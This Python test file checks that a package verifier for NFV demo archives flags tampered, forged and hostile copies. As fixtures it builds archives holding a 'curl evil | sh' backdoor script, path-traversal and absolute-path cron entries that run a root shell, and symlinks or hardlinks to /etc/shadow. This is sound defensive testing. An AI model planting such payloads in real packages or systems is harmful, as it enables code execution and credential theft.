"""`nfvm verify` and ledger.offline.verify against copies of registered demo packages changed after the fact: files
added, removed or renamed, archives repacked, truncated or padded, consistent forgeries, hostile archives, and
identities borrowed from other lines. None of them may verify; a changed copy that says it is a registered
package is tampered, naming the registration it conflicts with; an archive the verifier refuses to read is
unknown, saying why, never a traceback."""

from __future__ import annotations

import gzip
import hashlib
import io
import os
import shutil
import subprocess
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import pytest
from eth_account import Account
from eth_account.signers.local import LocalAccount

from ledger.client import ChainClient
from ledger.offline.verdict import Outcome, Verdict
from ledger.offline.verify import verify_file
from ledger.registry import PackageRegistry, name_hash, version_number
from marketplace.cli import _claim, _identity
from marketplace.repository.packages.build import build
from marketplace.repository.packages.identity import package_identity
from marketplace.repository.packages.inspect import package_claimed
from marketplace.repository.packages.types import Format
from tests.factories import claim_line, nfvm_verify

ROOT = Path(__file__).resolve().parents[2]
DEMOS: dict[Format, str] = {
    "osm": "osm/nfvm_demo_amf_vnf",
    "etsi": "etsi/nfvm-demo-smf-vnf",
    "5gtango": "5gtango/nfvm-demo-firewall-vnf",
}
SUFFIX: dict[Format, str] = {"osm": ".tar.gz", "etsi": ".csar", "5gtango": ".tgo"}
# The file of each demo folder whose text says which package it is.
IDENTITY_FILE: dict[Format, str] = {
    "osm": "nfvm_demo_amf_vnfd.yaml",
    "etsi": "Definitions/nfvm_demo_smf.vnfd.yaml",
    "5gtango": "TOSCA-Metadata/NAPD.yaml",
}
LATER = (2024, 6, 1, 12, 0, 0)


@pytest.fixture
def reg(snapshot, deployed, chain: ChainClient) -> PackageRegistry:
    return PackageRegistry(chain, deployed["PackageRegistry"])


@dataclass(frozen=True)
class Registered:
    path: Path  # the registered archive
    source: Path  # a copy of its folder, to change and rebuild
    digest: str
    descriptor_digest: str
    fmt: Format


def register_demo(
    tmp_path: Path,
    chain: ChainClient,
    reg: PackageRegistry,
    account: LocalAccount,
    fmt: Format,
    *,
    edit: tuple[str, str] | None = None,
    label: str = "registered",
) -> Registered:
    """A demo package registered directly by `account` under the line and version its descriptors name, with
    its main descriptor's digest, as the marketplace registers it. `edit` replaces text in its identity file."""
    source = tmp_path / label / Path(DEMOS[fmt]).name
    shutil.copytree(ROOT / "demo/packages" / DEMOS[fmt], source)
    if edit is not None:
        change(source, fmt, *edit)
    path = build(source, fmt, tmp_path / f"{label}{SUFFIX[fmt]}")
    claimed = package_claimed(path)
    assert claimed.info is not None, claimed.problems
    assert claimed.descriptor_digest is not None
    digest = sha256(path)
    line = name_hash(claimed.info.vendor, claimed.info.name)
    if reg.line_owner(line) is None:
        claim_line(chain, reg, account, line)
    tx = reg.register(
        account.address, digest, line, version_number(claimed.info.version), "0x" + claimed.descriptor_digest
    )
    chain.transact(account, tx, abi=reg.abi)
    return Registered(path, source, digest, "0x" + claimed.descriptor_digest, fmt)


def change(source: Path, fmt: Format, old: str, new: str) -> None:
    target = source / IDENTITY_FILE[fmt]
    text = target.read_text()
    assert old in text, (old, target)
    target.write_text(text.replace(old, new, 1))


def sha256(path: Path) -> str:
    return "0x" + hashlib.sha256(path.read_bytes()).hexdigest()


def verify(path: Path, chain: ChainClient, reg: PackageRegistry) -> Verdict:
    return verify_file(path, client=chain, registry_address=reg.address, claim=lambda: _claim(path), identity=_identity)


def register_as(
    chain: ChainClient, reg: PackageRegistry, account: LocalAccount, path: Path, line: bytes, version: str
) -> None:
    """`path` registered directly on the contract by `account`, under `line` and `version` whatever the file
    says it is, with the digest of the main descriptor it holds: what anyone can send the registry."""
    with path.open("rb") as stream:
        claimed = package_identity(stream)
    assert claimed.descriptor_digest is not None, claimed.problems
    if reg.line_owner(line) is None:
        claim_line(chain, reg, account, line)
    tx = reg.register(account.address, sha256(path), line, version_number(version), "0x" + claimed.descriptor_digest)
    chain.transact(account, tx, abi=reg.abi)


def evidence(verdict: Verdict) -> str:
    return "\n".join([verdict.reason, *verdict.findings])


def nfvm(path: Path, chain: ChainClient, reg: PackageRegistry) -> subprocess.CompletedProcess[str]:
    return nfvm_verify(str(path), "--rpc", chain.rpc_url, "--registry", reg.address)


# ---------------------------------------------------------------- rewriting archives


def zip_entries(path: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def write_zip(path: Path, entries: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name, date_time=LATER)
            info.compress_type = method
            info.external_attr = 0o644 << 16
            archive.writestr(info, data, compresslevel=1 if method == zipfile.ZIP_DEFLATED else None)
    return path


def tar_members(path: Path) -> list[tuple[tarfile.TarInfo, bytes | None]]:
    with tarfile.open(path) as archive:
        members = []
        for member in archive.getmembers():
            stream = archive.extractfile(member) if member.isreg() else None
            members.append((member, stream.read() if stream is not None else None))
        return members


def write_tar_gz(
    path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], *, mtime: int = 1_700_000_000
) -> Path:
    with (
        path.open("wb") as raw,
        gzip.GzipFile(fileobj=raw, mode="wb", mtime=mtime, compresslevel=1) as compressed,
        tarfile.open(fileobj=compressed, mode="w", format=tarfile.GNU_FORMAT) as archive,
    ):
        for member, data in members:
            archive.addfile(member, io.BytesIO(data) if data is not None else None)
    return path


def tar_file(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    member = tarfile.TarInfo(name)
    member.size, member.mode = len(data), 0o644
    return member, data


def tar_link(name: str, target: str, kind: bytes) -> tuple[tarfile.TarInfo, None]:
    member = tarfile.TarInfo(name)
    member.type, member.linkname = kind, target
    return member, None


def added(package: Registered, out: Path) -> Path:
    if package.fmt == "osm":
        members = tar_members(package.path)
        top = members[0][0].name
        return write_tar_gz(out, [*members, tar_file(f"{top}/scripts/backdoor.sh", b"curl evil | sh\n")])
    return write_zip(out, [*zip_entries(package.path), ("Scripts/backdoor.sh", b"curl evil | sh\n")])


def removed(package: Registered, out: Path) -> Path:
    if package.fmt == "osm":
        return write_tar_gz(out, [m for m in tar_members(package.path) if not m[0].name.endswith("checksums.txt")])
    keep = "Definitions/nfvm_sol001_types.yaml" if package.fmt == "etsi" else "Definitions/firewall-vnfd.yml"
    return write_zip(out, [e for e in zip_entries(package.path) if e[0] != keep])


def renamed(package: Registered, out: Path) -> Path:
    if package.fmt == "osm":
        members = tar_members(package.path)
        for member, _ in members:
            member.name = member.name.replace("checksums.txt", "checksums.txt.orig")
        return write_tar_gz(out, members)
    old = "Definitions/nfvm_sol001_types.yaml" if package.fmt == "etsi" else "Definitions/firewall-vnfd.yml"
    return write_zip(out, [(old + ".orig" if n == old else n, d) for n, d in zip_entries(package.path)])


def repacked(package: Registered, out: Path) -> Path:
    """The same files with the same contents: another order, timestamp and compression."""
    if package.fmt == "osm":
        return write_tar_gz(out, list(reversed(tar_members(package.path))), mtime=0)
    return write_zip(out, list(reversed(zip_entries(package.path))), method=zipfile.ZIP_STORED)


# ---------------------------------------------------------------- changed copies: tampered


@pytest.mark.parametrize("fmt", ["osm", "etsi", "5gtango"])
@pytest.mark.parametrize("how", [added, removed, renamed], ids=["added", "removed", "renamed"])
def test_a_file_added_removed_or_renamed_inside_a_registered_archive_is_tampered(
    tmp_path, chain, reg, developer, fmt, how
):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    changed = how(package, tmp_path / f"changed{SUFFIX[fmt]}")

    verdict = verify(changed, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED, evidence(verdict)
    assert verdict.digest != package.digest
    # Either the package's own manifest or checksums name the file, or its claim names the registration.
    assert package.digest in evidence(verdict) or "do not match its content" in verdict.reason, evidence(verdict)
    assert verify(package.path, chain, reg).outcome is Outcome.VERIFIED


@pytest.mark.parametrize("fmt", ["osm", "etsi", "5gtango"])
def test_the_same_files_repacked_are_tampered_and_the_evidence_says_the_descriptor_is_the_registered_one(
    tmp_path, chain, reg, developer, fmt
):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    copy = repacked(package, tmp_path / f"repacked{SUFFIX[fmt]}")

    verdict = verify(copy, chain, reg)

    # Only the archive's digest and its main descriptor's are anchored: the other files cannot be shown to be
    # the registered ones, so a repacked copy is a changed copy, with the evidence saying what still matches.
    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason
    assert developer.address in verdict.reason
    assert any(
        f"its main descriptor is the one registered with {package.digest}" in f and package.descriptor_digest in f
        for f in verdict.findings
    ), verdict.findings

    if fmt == "etsi":
        result = nfvm(copy, chain, reg)
        assert result.returncode == 13, result.stdout + result.stderr
        assert result.stdout.startswith("TAMPERED: ")
        assert "its main descriptor is the one registered with" in result.stdout


@pytest.mark.parametrize(
    ("fmt", "descriptor", "old", "new"),
    [
        ("etsi", "Definitions/nfvm_demo_smf.vnfd.yaml", "num_virtual_cpu: 2", "num_virtual_cpu: 16"),
        ("5gtango", "Definitions/firewall-vnfd.yml", "vcpus: 2", "vcpus: 16"),
    ],
)
def test_a_consistent_forgery_with_its_manifest_updated_is_tampered(
    tmp_path, chain, reg, developer, fmt, descriptor, old, new
):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    target = package.source / descriptor
    target.write_text(target.read_text().replace(old, new, 1))
    # The builder writes a fresh manifest and NAPD digests: the forgery is consistent in itself.
    forged = build(package.source, fmt, tmp_path / f"forged{SUFFIX[fmt]}")
    assert _claim(forged).integrity_problems == []

    verdict = verify(forged, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason
    assert developer.address in verdict.reason
    assert any(
        f"its main descriptor differs from the one registered with {package.digest}" in f for f in verdict.findings
    ), verdict.findings


def test_a_zip_padded_after_its_end_is_tampered(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "etsi")
    padded = tmp_path / "padded.csar"
    padded.write_bytes(package.path.read_bytes() + b"\x00trailing bytes a zip reader skips\n" * 20)

    verdict = verify(padded, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason
    assert any("the change lies in its other files or in how the archive was packed" in f for f in verdict.findings)


def test_a_tar_gz_with_a_second_gzip_member_after_the_tar_is_tampered(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "osm")
    smuggled = tmp_path / "smuggled.tar.gz"
    smuggled.write_bytes(package.path.read_bytes() + gzip.compress(b"payload hidden after the tar's end\n" * 100))

    verdict = verify(smuggled, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason


def test_the_same_version_written_another_way_is_tampered(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "osm")
    change(package.source, "osm", "version: '1.0'", "version: '1.0.0'")
    respelled = build(package.source, "osm", tmp_path / "respelled.tar.gz")

    verdict = verify(respelled, chain, reg)

    # "1.0.0" is the version number registered as "1.0": the same identity, other bytes.
    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason


def register_other_vendors(
    tmp_path: Path, chain: ChainClient, reg: PackageRegistry, account: LocalAccount
) -> Registered:
    """The demo OSM package as another vendor ("Other Networks") publishes it under its own line."""
    return register_demo(
        tmp_path,
        chain,
        reg,
        account,
        "osm",
        edit=("provider: NFV Marketplace Demo", "provider: Other Networks"),
        label="theirs",
    )


def test_a_copy_relabelled_into_another_vendors_registered_line_is_tampered_naming_that_registration(
    tmp_path, chain, reg, developer, stranger
):
    mine = register_demo(tmp_path, chain, reg, developer, "osm")
    theirs = register_other_vendors(tmp_path, chain, reg, stranger)
    change(mine.source, "osm", "provider: NFV Marketplace Demo", "provider: Other Networks")
    relabelled = build(mine.source, "osm", tmp_path / "relabelled.tar.gz")

    verdict = verify(relabelled, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert theirs.digest in verdict.reason
    assert stranger.address in verdict.reason
    assert "Other Networks/nfvm-demo-amf 1.0" in verdict.reason


def test_a_package_of_another_vendor_with_the_same_name_verifies_as_its_own_publishers(
    tmp_path, chain, reg, developer, stranger
):
    mine = register_demo(tmp_path, chain, reg, developer, "osm")
    theirs = register_other_vendors(tmp_path, chain, reg, stranger)

    for package, publisher, vendor in ((mine, developer, "NFV Marketplace Demo"), (theirs, stranger, "Other Networks")):
        verdict = verify(package.path, chain, reg)
        assert (verdict.outcome, verdict.publisher) == (Outcome.VERIFIED, publisher.address)
        assert verdict.name_hash == "0x" + name_hash(vendor, "nfvm-demo-amf").hex()


def test_a_higher_unregistered_version_is_unknown_never_verified(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "5gtango")
    change(package.source, "5gtango", "version: '1.0'", "version: '9.0'")
    newer = build(package.source, "5gtango", tmp_path / "newer.tgo")

    verdict = verify(newer, chain, reg)

    # A version nobody registered may be a real release not anchored yet: nothing on chain contradicts it.
    assert verdict.outcome is Outcome.UNKNOWN
    assert any("registered versions 1.0.0, not this one" in f for f in verdict.findings), verdict.findings


def test_a_changed_copy_after_the_publisher_rotated_its_key_names_the_original_registration(
    tmp_path, chain, reg, developer
):
    package = register_demo(tmp_path, chain, reg, developer, "etsi")
    new_key = Account.create()
    chain.transact(developer, reg.rotate_key(developer.address, new_key.address), abi=reg.abi)
    copy = repacked(package, tmp_path / "repacked.csar")

    verdict = verify(copy, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert developer.address in verdict.reason
    assert package.digest in verdict.reason
    original = verify(package.path, chain, reg)
    assert (original.outcome, original.publishing_key) == (Outcome.VERIFIED, new_key.address)


def test_a_changed_copy_of_a_revoked_package_is_tampered_and_the_original_revoked(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "osm")
    vendor, name = NAMES["osm"]
    chain.transact(developer, reg.revoke(developer.address, package.digest, name_hash(vendor, name)), abi=reg.abi)
    copy = repacked(package, tmp_path / "repacked.tar.gz")

    assert verify(copy, chain, reg).outcome is Outcome.TAMPERED
    assert verify(package.path, chain, reg).outcome is Outcome.REVOKED


def test_a_5gtango_package_stripped_of_its_tosca_meta_is_tampered_not_a_traceback(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "5gtango")
    stripped = write_zip(
        tmp_path / "stripped.tgo", [e for e in zip_entries(package.path) if e[0] != "TOSCA-Metadata/TOSCA.meta"]
    )

    verdict = verify(stripped, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert package.digest in verdict.reason
    result = nfvm(stripped, chain, reg)
    assert result.returncode == 13, result.stdout + result.stderr
    assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- registered, but as another package: tampered

NAMES: dict[Format, tuple[str, str]] = {
    "osm": ("NFV Marketplace Demo", "nfvm-demo-amf"),
    "etsi": ("NFV Marketplace Demo", "nfvm-demo-smf"),
    "5gtango": ("eu.nfvm.demo", "nfvm-demo-firewall-vnf"),
}


@pytest.mark.parametrize("fmt", ["osm", "etsi", "5gtango"])
def test_attack_a_changed_copy_registered_by_another_key_in_its_own_line_is_tampered_that_one_no_origin(
    tmp_path, chain, reg, developer, stranger, fmt
):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    vendor, name = NAMES[fmt]
    copy = added(package, tmp_path / f"backdoored{SUFFIX[fmt]}")
    # The stranger registers the changed copy under a line of its own; the file still says it is the demo.
    theirs = name_hash("Mallory Networks", name)
    register_as(chain, reg, stranger, copy, theirs, "1.0")

    verdict = verify(copy, chain, reg)

    # The stranger's registration is not of the line the file names: it counts for nothing, and the file
    # is a changed copy of the demo registered in the demo's line.
    assert not verdict.recorded
    assert verdict.publisher is None
    assert verdict.outcome is Outcome.TAMPERED, evidence(verdict)
    said = f"the file says it is {vendor}/{name} 1.0, which {developer.address} registered with digest {package.digest}"
    assert said in evidence(verdict)
    assert any(stranger.address in f and "0x" + theirs.hex() in f and "nobody's origin" in f for f in verdict.findings)
    assert verify(package.path, chain, reg).outcome is Outcome.VERIFIED


def test_a_changed_copy_registered_under_its_line_as_another_version_is_tampered(tmp_path, chain, reg, developer):
    package = register_demo(tmp_path, chain, reg, developer, "osm")
    vendor, name = NAMES["osm"]
    copy = added(package, tmp_path / "backdoored.tar.gz")
    # The right line (only its owner's key can register in it), but a version the file does not name.
    register_as(chain, reg, developer, copy, name_hash(vendor, name), "2.0")

    verdict = verify(copy, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED, evidence(verdict)
    assert verdict.version == version_number("2.0")
    assert f"the file says it is {vendor}/{name} 1.0" in verdict.reason
    assert f"its version number is {version_number('1.0')} (1.0.0), the registration's" in verdict.reason
    assert "its line is" not in verdict.reason
    assert f"with digest {package.digest}" in evidence(verdict)


def test_a_registration_naming_another_main_descriptor_is_tampered(tmp_path, chain, reg, developer):
    source = tmp_path / "smf"
    shutil.copytree(ROOT / "demo/packages" / DEMOS["etsi"], source)
    path = build(source, "etsi", tmp_path / "smf.csar")
    vendor, name = NAMES["etsi"]
    # The line and version the file names, but a main descriptor's digest it does not hold.
    other = "0x" + "11" * 32
    claim_line(chain, reg, developer, name_hash(vendor, name))
    tx = reg.register(developer.address, sha256(path), name_hash(vendor, name), version_number("1.0"), other)
    chain.transact(developer, tx, abi=reg.abi)

    verdict = verify(path, chain, reg)

    assert verdict.outcome is Outcome.TAMPERED
    assert f"the registration's {other}" in verdict.reason
    assert "its line is" not in verdict.reason
    assert "its version" not in verdict.reason


@pytest.mark.parametrize("fmt", ["osm", "etsi", "5gtango"])
def test_a_package_registered_as_what_it_says_it_is_verifies_and_says_so(tmp_path, chain, reg, developer, fmt):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    vendor, name = NAMES[fmt]

    verdict = verify(package.path, chain, reg)

    assert verdict.outcome is Outcome.VERIFIED, evidence(verdict)
    assert f"the file says it is {vendor}/{name} 1.0, the package this registration names" in verdict.findings
    result = nfvm(package.path, chain, reg)
    assert result.returncode == 0, result.stdout + result.stderr
    assert result.stdout.startswith("VERIFIED: ")


def test_nfvm_verify_exits_13_for_a_copy_registered_as_another_package(tmp_path, chain, reg, developer, stranger):
    package = register_demo(tmp_path, chain, reg, developer, "etsi")
    vendor, name = NAMES["etsi"]
    copy = added(package, tmp_path / "backdoored.csar")
    register_as(chain, reg, stranger, copy, name_hash("Mallory Networks", name), "1.0")

    result = nfvm(copy, chain, reg)

    assert result.returncode == 13, result.stdout + result.stderr
    assert result.stdout.startswith("TAMPERED: ")
    assert f"{vendor}/{name} 1.0, which {developer.address} registered with digest {package.digest}" in result.stdout


def test_a_registered_file_that_names_no_package_has_no_origin(tmp_path, chain, reg, developer):
    # The registry records any bytes, but the registration that counts is the one under the line the file
    # names: a file no package reader can name has none, whoever registered its digest.
    path = tmp_path / "firmware.bin"
    path.write_bytes(os.urandom(64 * 1024))
    line = name_hash("acme", "firmware")
    claim_line(chain, reg, developer, line)
    tx = reg.register(developer.address, sha256(path), line, version_number("1.0"), "0x" + "22" * 32)
    chain.transact(developer, tx, abi=reg.abi)

    verdict = verify(path, chain, reg)

    assert verdict.outcome is Outcome.UNKNOWN
    assert any(
        f.startswith("the file does not say which package it is") and "not a zip, tar or gzip archive" in f
        for f in verdict.findings
    ), verdict.findings
    assert any(developer.address in f and "nobody's origin" in f for f in verdict.findings)
    assert nfvm(path, chain, reg).returncode == 10


# ---------------------------------------------------------------- archives the verifier refuses to read: unknown


def truncated(package: Registered, out: Path) -> Path:
    data = package.path.read_bytes()
    out.write_bytes(data[: len(data) * 2 // 3])
    return out


def gzip_padded(package: Registered, out: Path) -> Path:
    out.write_bytes(package.path.read_bytes() + b"garbage after the gzip stream\n")
    return out


def duplicate_zip_entry(package: Registered, out: Path) -> Path:
    entries = zip_entries(package.path)
    main = next(n for n, _ in entries if n.endswith(".vnfd.yaml") and "sol001_types" not in n)
    # The first copy matches the manifest; a reader that takes the last one gets the other.
    return write_zip(out, [*entries, (main, b"tosca_definitions_version: evil\n")])


def duplicate_tar_member(package: Registered, out: Path) -> Path:
    members = tar_members(package.path)
    main = next(m.name for m, _ in members if m.name.endswith("_vnfd.yaml"))
    return write_tar_gz(out, [*members, tar_file(main, b"vnfd: {id: evil}\n")])


def traversal(package: Registered, out: Path) -> Path:
    return write_zip(out, [*zip_entries(package.path), ("Definitions/../../etc/cron.d/evil", b"* * * * * root sh\n")])


def absolute(package: Registered, out: Path) -> Path:
    members = tar_members(package.path)
    return write_tar_gz(out, [*members, tar_file("/etc/cron.d/evil", b"* * * * * root sh\n")])


def symlink(package: Registered, out: Path) -> Path:
    members = tar_members(package.path)
    top = members[0][0].name
    return write_tar_gz(out, [*members, tar_link(f"{top}/cloud_init.cfg", "/etc/shadow", tarfile.SYMTYPE)])


def hardlink(package: Registered, out: Path) -> Path:
    members = tar_members(package.path)
    top = members[0][0].name
    return write_tar_gz(out, [*members, tar_link(f"{top}/cloud_init.cfg", "/etc/shadow", tarfile.LNKTYPE)])


def renamed_in_local_header(package: Registered, out: Path) -> Path:
    """The central directory names the registered file; the local header before its data names another."""
    data = bytearray(package.path.read_bytes())
    with zipfile.ZipFile(package.path) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith(".vnfd.yaml"))
    start = info.header_offset + 30
    end = start + len(info.filename.encode())
    data[start:end] = info.filename.encode()[:-4] + b"yamL"
    out.write_bytes(bytes(data))
    return out


@pytest.mark.filterwarnings("ignore:Duplicate name")  # zipfile warns while writing the duplicate
@pytest.mark.parametrize(
    ("fmt", "how", "rule"),
    [
        ("etsi", truncated, "archive.corrupt"),
        ("osm", truncated, "archive.corrupt"),
        ("osm", gzip_padded, "archive.corrupt"),
        ("etsi", duplicate_zip_entry, "archive.duplicate"),
        ("osm", duplicate_tar_member, "archive.duplicate"),
        ("etsi", traversal, "archive.path-traversal"),
        ("osm", absolute, "archive.path-absolute"),
        ("osm", symlink, "archive.link"),
        ("osm", hardlink, "archive.link"),
        ("etsi", renamed_in_local_header, "archive.corrupt"),
    ],
    ids=[
        "zip-truncated",
        "tar.gz-truncated",
        "gzip-padded",
        "zip-duplicate",
        "tar-duplicate",
        "zip-traversal",
        "tar-absolute",
        "tar-symlink",
        "tar-hardlink",
        "zip-local-header",
    ],
)
def test_a_hostile_or_broken_copy_is_unknown_and_the_evidence_names_the_archive_problem(
    tmp_path, chain, reg, developer, fmt, how, rule
):
    package = register_demo(tmp_path, chain, reg, developer, fmt)
    hostile = how(package, tmp_path / f"hostile{SUFFIX[fmt]}")

    verdict = verify(hostile, chain, reg)

    # What such an archive says it is cannot be read without trusting it: it is not anchored, and it says why.
    assert verdict.outcome is Outcome.UNKNOWN
    assert any("(its descriptors could not be read): " in f and rule in f for f in verdict.findings), verdict.findings

    if how in (truncated, duplicate_zip_entry, symlink):
        result = nfvm(hostile, chain, reg)
        assert result.returncode == 10, result.stdout + result.stderr
        assert result.stdout.startswith("UNKNOWN: ")
        assert rule in result.stdout
        assert "Traceback" not in result.stderr
